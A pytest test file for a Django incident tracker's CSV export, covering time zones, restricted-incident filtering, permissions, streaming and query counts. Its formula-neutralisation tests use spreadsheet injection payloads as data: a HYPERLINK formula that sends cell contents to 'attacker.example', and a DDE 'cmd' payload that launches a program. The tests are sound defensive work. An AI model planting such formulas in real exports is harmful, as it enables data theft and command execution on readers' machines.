"""CSV export of incidents: the admin's "Download CSV" link (the list's filters and search), its
action "Export selected as CSV", and `GET /api/v1/incidents.csv` (the API list's filters) — streamed,
in the reader's time zone, with restricted incidents left out for those who may not see them, formulas
neutralised, and a number of queries that does not grow with the rows."""

import csv
import io
from datetime import datetime, timezone as dt_timezone

import pytest
import time_machine
from django.urls import reverse

from incidents import actions, export
from incidents.models import Incident, Source, Status
from tests.api.keys import auth
from tests.incidents.factories import IncidentFactory, ServiceFactory, incident_type, severity
from tests.oncall.factories import UserFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_rate_windows")]


API = "/api/v1/incidents.csv"
LIST = reverse("admin:incidents_incident_changelist")
DOWNLOAD = reverse("admin:incidents_incident_export")


def read(response) -> list[dict[str, str]]:
    """The streamed file as a person's spreadsheet would read it: a header, then one dict per row."""
    assert response.status_code == 200, response.content
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert tuple(rows[0]) == export.HEADER
    return [dict(zip(rows[0], cells, strict=True)) for cells in rows[1:]]


def titles(response) -> list[str]:
    return [row["title"] for row in read(response)]


def utc(*args) -> datetime:
    return datetime(*args, tzinfo=dt_timezone.utc)


# --- What a row says ----------------------------------------------------------------------------


@pytest.fixture
def new_yorker(db):
    return UserFactory(username="ny", commander=True, time_zone="America/New_York", first_name="Ada", last_name="Lovelace")


@pytest.fixture
def across_dst(new_yorker):
    """Declared at 01:30 EST on the night clocks went forward (2026-03-08, 02:00 EST became 03:00
    EDT), acknowledged 45 min later at 03:15 EDT, resolved at 05:00 EDT (2 h 30 min after declaring)."""
    checkout = ServiceFactory(name="Checkout API", slug="checkout-api", customer_facing=True)
    search = ServiceFactory(name="Search", slug="search")
    with time_machine.travel(utc(2026, 3, 8, 6, 30), tick=False):
        incident = actions.declare(
            title="Card payments failing", severity=severity("SEV-1"), services=[search, checkout],
            incident_type=incident_type("availability"), commander=new_yorker, actor=new_yorker, source=Source.ADMIN,
        )
    with time_machine.travel(utc(2026, 3, 8, 7, 15), tick=False):
        actions.acknowledge(incident, actor=new_yorker, source=Source.ADMIN)
    with time_machine.travel(utc(2026, 3, 8, 9, 0), tick=False):
        actions.resolve(incident, actor=new_yorker, source=Source.ADMIN, summary="Rolled back")
    return Incident.objects.get(pk=incident.pk)


def test_a_row_says_what_a_manager_needs_in_the_readers_zone_across_a_dst_change(client, across_dst, new_yorker):
    [row] = read(client.get(API, **auth(new_yorker, "read")))
    assert row == {
        "reference": across_dst.reference,
        "title": "Card payments failing",
        "severity": "SEV-1",
        "status": "Resolved",
        "type": incident_type("availability").name,
        "services": "Checkout API, Search",
        "commander": "Ada Lovelace",
        "declared": "2026-03-08T01:30:00-05:00",
        "acknowledged": "2026-03-08T03:15:00-04:00",
        "mitigated": "2026-03-08T05:00:00-04:00",  # resolving without a mitigation first stamps both
        "resolved": "2026-03-08T05:00:00-04:00",
        "closed": "",
        "minutes to acknowledge": "45.0",
        "minutes to resolve": "150.0",
        "customer facing": "yes",
        "drill": "no",
        "restricted": "no",
    }


def test_the_same_incident_reads_in_utc_for_a_reader_in_utc(client, across_dst, manager):
    [row] = read(client.get(API, **auth(manager, "read")))
    assert (row["declared"], row["acknowledged"]) == ("2026-03-08T06:30:00+00:00", "2026-03-08T07:15:00+00:00")
    assert row["minutes to acknowledge"] == "45.0"


def test_the_download_is_an_attachment_named_by_the_readers_date(client, across_dst, new_yorker):
    # 03:00 UTC on 1 December is still 30 November in New York.
    with time_machine.travel(utc(2026, 12, 1, 3, 0), tick=False):
        response = client.get(API, **auth(new_yorker, "read"))
    assert response["Content-Disposition"] == 'attachment; filename="incidents-2026-11-30.csv"'
    assert response["Cache-Control"] == "private, no-store"


# --- Formulas --------------------------------------------------------------------------------


@pytest.mark.parametrize("typed", ["=1+2", "+SUM(A1:A2)", "-2+3", "@cmd", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(typed):
    assert export.text(typed) == "'" + typed
    assert export.text("Checkout " + typed) == "Checkout " + typed


def test_formulas_in_titles_and_service_names_arrive_as_text(client, commander):
    evil = ServiceFactory(name="=cmd|' /C calc'!A0", slug="evil")
    for title in ('=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+1+1", "-1+1", "@SUM(1,1)", "Normal title"):
        IncidentFactory(actor=commander, title=title, services=[evil])
    rows = read(client.get(API, **auth(commander, "read")))
    assert sorted(row["title"] for row in rows) == sorted([
        """'=HYPERLINK("http://attacker.example/?"&A1,"Click")""", "'+1+1", "'-1+1", "'@SUM(1,1)", "Normal title",
    ])
    assert {row["services"] for row in rows} == {"'=cmd|' /C calc'!A0"}


# --- Restricted incidents ---------------------------------------------------------------------


@pytest.fixture
def breach(commander):
    return IncidentFactory(actor=commander, title="Customer database exfiltrated", incident_type=incident_type("security"), commander=commander)


@pytest.fixture
def outage(commander):
    return IncidentFactory(actor=commander, title="Checkout slow")


def test_a_viewer_never_finds_a_restricted_title_in_any_export(client, as_user, breach, outage, viewer):
    assert breach.is_restricted
    assert titles(client.get(API, **auth(viewer, "read"))) == ["Checkout slow"]
    as_user(viewer)
    assert titles(client.get(DOWNLOAD)) == ["Checkout slow"]
    assert titles(client.get(DOWNLOAD, {"q": "exfiltrated"})) == []
    # Even with the restricted incident's id forced into the selection.
    picked = client.post(LIST, {"action": "export_selected", "_selected_action": [breach.pk, outage.pk]})
    assert titles(picked) == ["Checkout slow"]


def test_participants_and_the_restricted_permission_do_see_it(client, breach, outage, commander, manager):
    for reader in (commander, manager):
        assert sorted(titles(client.get(API, **auth(reader, "read")))) == ["Checkout slow", "Customer database exfiltrated"]
    [row] = [r for r in read(client.get(API, **auth(manager, "read"))) if r["reference"] == breach.reference]
    assert row["restricted"] == "yes"


# --- The admin ---------------------------------------------------------------------------------


@pytest.fixture
def mixed(commander):
    """Four incidents: two resolved (one about checkout), two open (one about checkout)."""
    made = {
        "open checkout": IncidentFactory(actor=commander, title="Checkout errors"),
        "open search": IncidentFactory(actor=commander, title="Search slow"),
        "resolved checkout": IncidentFactory(actor=commander, title="Checkout timeouts", resolved=True),
        "resolved login": IncidentFactory(actor=commander, title="Login failures", resolved=True),
    }
    return made


def test_the_list_links_to_a_download_of_what_it_shows(client, as_user, mixed, viewer):
    as_user(viewer)
    page = client.get(LIST, {"status__exact": "resolved", "q": "checkout"}).content.decode()
    assert f'href="{DOWNLOAD}?q=checkout&amp;status__exact=resolved"' in page and "Download CSV" in page
    assert titles(client.get(DOWNLOAD, {"status__exact": "resolved", "q": "checkout"})) == ["Checkout timeouts"]


def test_the_download_honours_a_filter_and_a_search_each_and_the_lists_order(client, as_user, mixed, viewer):
    as_user(viewer)
    assert titles(client.get(DOWNLOAD, {"state": "open"})) == ["Search slow", "Checkout errors"]  # newest first
    assert sorted(titles(client.get(DOWNLOAD, {"q": "checkout"}))) == ["Checkout errors", "Checkout timeouts"]
    everything = client.get(DOWNLOAD, {"p": "3"})  # the page shown does not limit the file
    assert len(read(everything)) == 4
    oldest_first = [row["reference"] for row in read(client.get(DOWNLOAD, {"o": "1"}))]  # sorted by Ref, ascending
    assert oldest_first == sorted(oldest_first, key=lambda ref: int(ref.split("-")[1]))


def test_an_unknown_filter_goes_back_to_the_list_as_the_list_itself_does(client, as_user, mixed, viewer):
    as_user(viewer)
    response = client.get(DOWNLOAD, {"no_such_field": "1"})
    assert response.status_code == 302 and response["Location"] == f"{LIST}?e=1"


def test_the_action_exports_the_selection(client, as_user, mixed, viewer):
    as_user(viewer)
    chosen = [mixed["open search"], mixed["resolved login"]]
    response = client.post(LIST, {"action": "export_selected", "_selected_action": [i.pk for i in chosen]})
    assert response["Content-Disposition"].startswith('attachment; filename="incidents-')
    assert sorted(titles(response)) == ["Login failures", "Search slow"]


def test_the_list_offers_the_action(client, as_user, mixed, viewer):
    as_user(viewer)
    page = client.get(LIST).content.decode()
    assert '<option value="export_selected">Export selected as CSV</option>' in page


def test_staff_without_the_view_permission_get_403(client, as_user, mixed):
    as_user(UserFactory(username="staff-nobody"))  # staff, in no group
    assert client.get(DOWNLOAD).status_code == 403
    assert client.get(LIST).status_code == 403


# --- The API ------------------------------------------------------------------------------------


def test_the_api_needs_a_key_its_read_scope_and_the_view_permission(client, mixed, commander):
    assert client.get(API).status_code == 401
    no_scope = client.get(API, **auth(commander, "ingest"))
    assert no_scope.status_code == 403 and "'read' scope" in no_scope.json()["detail"]
    nobody = client.get(API, **auth(UserFactory(username="nobody"), "read"))
    assert nobody.status_code == 403 and "incidents.view_incident" in nobody.json()["detail"]


def test_the_api_takes_the_lists_filters_and_refuses_a_bad_one_before_streaming(client, mixed, commander):
    key = auth(commander, "read")
    assert titles(client.get(API, {"status": "open"}, **key)) == ["Search slow", "Checkout errors"]
    assert sorted(titles(client.get(API, {"status": "resolved", "q": "checkout"}, **key))) == ["Checkout timeouts"]
    assert titles(client.get(API, {"q": mixed["resolved login"].reference}, **key)) == ["Login failures"]
    refused = client.get(API, {"status": "sleeping"}, **key)
    assert refused.status_code == 422 and refused.json()["errors"][0]["field"] == "status"


def test_incidents_csv_is_the_export_not_an_incident_reference(client, mixed, commander):
    key = auth(commander, "read")
    assert client.get(API, **key)["Content-Type"] == "text/csv; charset=utf-8"
    reference = mixed["open search"].reference
    assert client.get(f"/api/v1/incidents/{reference}", **key).json()["reference"] == reference
    assert client.get("/api/v1/incidents/incidents.csv", **key).json() == {"detail": "No incident incidents.csv."}


# --- Streaming and queries ----------------------------------------------------------------------


def test_the_file_leaves_in_pieces_not_as_one_string(client, commander, monkeypatch):
    for n in range(30):
        IncidentFactory(actor=commander, title=f"Incident number {n}")
    monkeypatch.setattr(export, "BLOCK", 500)
    monkeypatch.setattr(export, "CHUNK", 7)
    response = client.get(API, **auth(commander, "read"))
    pieces = list(response.streaming_content)
    assert len(pieces) > 5 and all(len(piece) < 1000 for piece in pieces)
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode(), newline="")))
    assert len(rows) == 31


@pytest.mark.parametrize("count", [5, 50])
def test_queries_do_not_grow_with_the_rows(client, as_user, commander, service, django_assert_max_num_queries, count):
    other = ServiceFactory(name="Search", slug="search")
    for n in range(count):
        IncidentFactory(actor=commander, title=f"Incident {n}", services=[service, other], commander=commander)
    key = auth(commander, "read")
    # Key lookup and its last use, session-less permission checks, the rows, their services and
    # commanders (one chunk), plus the rate window in the cache (not a query).
    with django_assert_max_num_queries(8):
        assert len(read(client.get(API, **key))) == count
    as_user(commander)
    with django_assert_max_num_queries(10):
        assert len(read(client.get(DOWNLOAD))) == count
    pks = list(Incident.objects.values_list("pk", flat=True))
    # The admin builds the list (its filters' choices, a page, its count and, on PostgreSQL, the
    # planner's estimate asked before counting) before it runs an action.
    with django_assert_max_num_queries(19):
        assert len(read(client.post(LIST, {"action": "export_selected", "_selected_action": pks}))) == count


def test_statuses_read_as_the_admin_shows_them(client, commander):
    IncidentFactory(actor=commander, title="Closed one", closed=True)
    [row] = read(client.get(API, **auth(commander, "read")))
    assert row["status"] == Status.CLOSED.label and row["closed"] != ""
